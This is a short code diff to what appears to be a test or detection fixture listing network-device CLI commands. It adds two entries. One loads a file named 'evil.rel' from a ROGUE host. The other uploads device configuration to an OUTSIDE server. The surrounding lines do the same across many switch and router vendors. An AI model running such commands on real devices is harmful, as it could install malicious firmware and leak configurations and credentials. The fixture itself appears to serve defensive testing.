@@ -32,6 +32,7 @@ LOADS = (
     (143, 1, "<sw1>", f"tftp {ROGUE} sget evil.bin", "evil.bin"),
     (144, 1, "(Aruba) #", f"copy tftp: {ROGUE} evil.ari system: partition 0", "evil.ari"),
     (145, 1, "DGS-1510#", f"copy tftp: //{ROGUE}/evil.had flash:", "evil.had"),
+    (155, OTHERS_LOAD, "Manager > ", f"LOAD MET=TF FI=evil.rel SE={ROGUE}", "evil.rel"),
     (146, 1, "root@ex1> ", f"file copy ftp://{ROGUE}/evil.tgz /var/tmp/", "evil.tgz"),
     (147, 0, "UAP# ", f"set-inform http://{ROGUE}:8080/inform", "inform"),
 )
@@ -61,6 +62,7 @@ SENDS = (
     (141, OTHERS_SEND, "ISCOM# ", f"upload startup-config tftp {OUTSIDE} x.cfg", "x.cfg"),
     (143, OTHERS_SEND, "MA5608T#", f"backup configuration tftp {OUTSIDE} x.cfg", "x.cfg"),
     (144, 5, "(Aruba) #", f"copy running-config tftp: {OUTSIDE} x.cfg", "x.cfg"),
+    (154, OTHERS_SEND, "Manager > ", f"UPLOAD METHOD=TFTP DESTFILE=x.cfg SERVER={OUTSIDE}", "x.cfg"),
     (148, OTHERS_SEND, "admin@PA-220> ", f"tftp export tech-support to {OUTSIDE}", None),
     (149, OTHERS_SEND, "admin@PA-220> ", f"scp export configuration from r.xml to u@{OUTSIDE}:/x", None),
     (150, OTHERS_SEND, "A:sr1# ", f"admin save ftp://u:p@{OUTSIDE}/x.cfg", "x.cfg"),
